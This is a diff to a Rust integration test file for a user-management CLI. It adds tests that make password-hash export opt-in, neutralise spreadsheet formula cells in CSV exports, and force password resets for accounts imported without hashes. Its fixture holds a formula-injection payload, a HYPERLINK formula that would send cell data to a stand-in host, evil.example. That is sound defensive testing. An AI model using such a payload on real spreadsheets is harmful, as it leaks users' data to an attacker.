@@ -1,7 +1,8 @@
 //! `user-management users set-role|list|export|import`: staff actions from
 //! the command line (audited, ending sessions, mailed), the listing and its
 //! filters, and the CSV round trip (private exports, line-numbered refusals,
-//! bcrypt hashes of the FastAPI project that log in and become Argon2id).
+//! bcrypt hashes of the FastAPI project that log in and become Argon2id,
+//! formula cells quoted and restored, hashes only on request).
 
 use std::path::Path;
 use std::time::{Duration, Instant};
@@ -13,9 +14,10 @@ use user_management::db::entities::audit_events;
 
 use crate::helpers::binary::{cli, cli_failing};
 use crate::helpers::{
-    ADMIN_EMAIL, ADMIN_PASSWORD, Backend, PASSWORD, TestApp, spawn_app, spawn_app_with_admin,
+    ADMIN_EMAIL, ADMIN_PASSWORD, Backend, PASSWORD, TestApp, WRONG, spawn_app, spawn_app_with_admin,
 };
 use crate::on_both_databases;
+use user_management::auth::hashing::NO_PASSWORD;
 use user_management::db::entities::users;
 use user_management::domain::Nickname;
 use user_management::users::admin::csv::{self as csv_io, ImportOptions};
@@ -242,7 +244,7 @@ async fn export_then_import_round_trips_users_and_their_passwords(backend: Backe
 
     let dir = tempfile::tempdir().expect("dir");
     let first = dir.path().join("users.csv");
-    cli(&source, &["users", "export", arg(&first)]);
+    cli(&source, &["users", "export", "--with-hashes", arg(&first)]);
     assert_private(&first, "the export holds hashes");
     let (header, rows) = csv_rows(&first);
     assert_eq!(header.join(","), CSV_HEADER);
@@ -260,7 +262,7 @@ async fn export_then_import_round_trips_users_and_their_passwords(backend: Backe
         "{imported}"
     );
     let second = dir.path().join("again.csv");
-    cli(&target, &["users", "export", arg(&second)]);
+    cli(&target, &["users", "export", "--with-hashes", arg(&second)]);
     assert_eq!(
         csv_rows(&second),
         (header, rows),
@@ -288,7 +290,7 @@ async fn export_over_an_existing_file_makes_it_private() {
     let path = write_file(dir.path(), "users.csv", "stale\n");
     std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
 
-    cli(&app, &["users", "export", arg(&path)]);
+    cli(&app, &["users", "export", "--with-hashes", arg(&path)]);
 
     let contents = std::fs::read_to_string(&path).expect("read export");
     assert!(contents.starts_with("email,"), "overwritten: {contents}");
@@ -395,12 +397,166 @@ async fn bcrypt_hashes_import_log_in_and_become_argon2id(backend: Backend) {
     assert_eq!(me["first_name"], "Grace");
 }
 
+// ------------------------------------------------------------ formulas, no hashes
+
+/// First names a spreadsheet would run as formulas (and quoted values that
+/// must survive), each with the cell its export holds.
+const FORMULAS: [(&str, &str); 6] = [
+    (
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
+        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
+    ),
+    ("+1", "'+1"),
+    ("-2", "'-2"),
+    ("@x", "'@x"),
+    ("'=quoted", "''=quoted"),
+    ("'plain", "'plain"),
+];
+
+/// Every user's email and raw first-name cell in a CSV file, read without
+/// undoing anything; asserts no cell starts a formula.
+fn first_name_cells(path: &Path) -> Vec<(String, String)> {
+    let mut reader = csv::Reader::from_path(path).expect("open CSV");
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        let record = record.expect("CSV record");
+        for cell in &record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} starts a formula"
+            );
+        }
+        cells.push((record[0].to_owned(), record[2].to_owned()));
+    }
+    cells
+}
+
+async fn formula_cells_are_exported_quoted_and_imported_exact(backend: Backend) {
+    let Some(source) = spawn_app_with_admin(backend).await else {
+        return;
+    };
+    let (_, admin) = source.admin().await;
+    for (n, (first_name, _)) in FORMULAS.iter().enumerate() {
+        let extra = json!({ "first_name": first_name });
+        let email = format!("formula{n}@example.com");
+        source
+            .create_user_as(&admin, &email, "AUTHENTICATED", extra)
+            .await;
+    }
+    // Names with a leading tab or carriage return cannot be registered
+    // (names are trimmed), but a row may hold one from elsewhere.
+    for (email, name) in [("tab@example.com", "\tx"), ("cr@example.com", "\rx")] {
+        source.verified_account(email).await;
+        let sql = format!("UPDATE users SET first_name = '{name}' WHERE email_norm = '{email}'");
+        source.execute(&sql).await;
+    }
+
+    let dir = tempfile::tempdir().expect("dir");
+    let path = dir.path().join("users.csv");
+    cli(&source, &["users", "export", arg(&path)]);
+    let cells = first_name_cells(&path);
+    let cell_of = |email: &str| {
+        let found = cells.iter().find(|(e, _)| e == email);
+        found.map(|(_, cell)| cell.as_str())
+    };
+    for (n, (_, cell)) in FORMULAS.iter().enumerate() {
+        assert_eq!(cell_of(&format!("formula{n}@example.com")), Some(*cell));
+    }
+    assert_eq!(cell_of("tab@example.com"), Some("'\tx"));
+    assert_eq!(cell_of("cr@example.com"), Some("'\rx"));
+
+    let Some(target) = spawn_app(backend).await else {
+        return;
+    };
+    let out = cli(&target, &["users", "import", arg(&path)]);
+    assert!(
+        out.contains("created 9, skipped 0 existing, refused 0"),
+        "{out}"
+    );
+    for (n, (first_name, _)) in FORMULAS.iter().enumerate() {
+        let email = format!("formula{n}@example.com");
+        let user = target.user_by_email(&email).await.expect("imported");
+        assert_eq!(user.first_name.as_deref(), Some(*first_name), "{email}");
+    }
+    for email in ["tab@example.com", "cr@example.com"] {
+        let user = target.user_by_email(email).await.expect("imported");
+        assert_eq!(user.first_name.as_deref(), Some("x"), "trimmed as any name");
+    }
+}
+
+/// The `hashed_password` cell of every row of a CSV file.
+fn hash_cells(path: &Path) -> Vec<String> {
+    let (header, rows) = csv_rows(path);
+    let column = header.iter().position(|h| h == "hashed_password");
+    let column = column.expect("the hashed_password column");
+    rows.into_iter().map(|row| row[column].clone()).collect()
+}
+
+/// The status and body of a failed login.
+async fn refusal(app: &TestApp, email: &str, password: &str) -> (StatusCode, String) {
+    let response = app.login(email, password).await;
+    (response.status(), response.text().await.expect("body"))
+}
+
+async fn accounts_imported_without_hashes_must_reset_their_password(backend: Backend) {
+    let Some(source) = spawn_app_with_admin(backend).await else {
+        return;
+    };
+    source.verified_account("plain@example.com").await;
+    let dir = tempfile::tempdir().expect("dir");
+    let path = dir.path().join("users.csv");
+    cli(&source, &["users", "export", arg(&path)]);
+    assert_private(&path, "an export holds personal data");
+    assert_eq!(
+        hash_cells(&path),
+        ["", ""],
+        "no hashes without --with-hashes"
+    );
+
+    let Some(target) = spawn_app(backend).await else {
+        return;
+    };
+    let out = cli(&target, &["users", "import", arg(&path)]);
+    assert!(
+        out.contains("created 2, skipped 0 existing, refused 0"),
+        "{out}"
+    );
+    let user = target
+        .user_by_email("plain@example.com")
+        .await
+        .expect("row");
+    assert_eq!(user.password_hash, NO_PASSWORD);
+    target.verified_account("control@example.com").await;
+    let wrong = refusal(&target, "control@example.com", WRONG).await;
+    assert_eq!(wrong.0, StatusCode::UNAUTHORIZED, "{wrong:?}");
+    for password in [PASSWORD, NO_PASSWORD, WRONG] {
+        let answer = refusal(&target, "plain@example.com", password).await;
+        assert_eq!(answer, wrong, "{password:?}: as a wrong password");
+    }
+    let admin = refusal(&target, ADMIN_EMAIL, ADMIN_PASSWORD).await;
+    assert_eq!(admin, wrong, "the administrator too");
+
+    let forgot = json!({ "email": "plain@example.com" });
+    let asked = target.post_json("/password/forgot", &forgot).await;
+    assert_eq!(asked.status(), StatusCode::ACCEPTED);
+    let token = target.reset_token("plain@example.com", 1).await;
+    let body = json!({ "token": token, "new_password": "a-fresh-passphrase" });
+    let reset = target.post_json("/password/reset", &body).await;
+    assert!(reset.status().is_success(), "{}", reset.status());
+    let me = target
+        .me_after_login("plain@example.com", "a-fresh-passphrase")
+        .await;
+    assert_eq!(me["email"], "plain@example.com");
+}
+
 on_both_databases!(
     set_role_from_the_cli_is_audited_ends_sessions_and_emails,
     users_list_filters_by_role_and_by_lock,
     export_then_import_round_trips_users_and_their_passwords,
     import_reports_bad_rows_by_line_and_writes_only_good_ones,
     bcrypt_hashes_import_log_in_and_become_argon2id,
+    formula_cells_are_exported_quoted_and_imported_exact,
+    accounts_imported_without_hashes_must_reset_their_password,
 );
 
 /// The CSV header of an export.
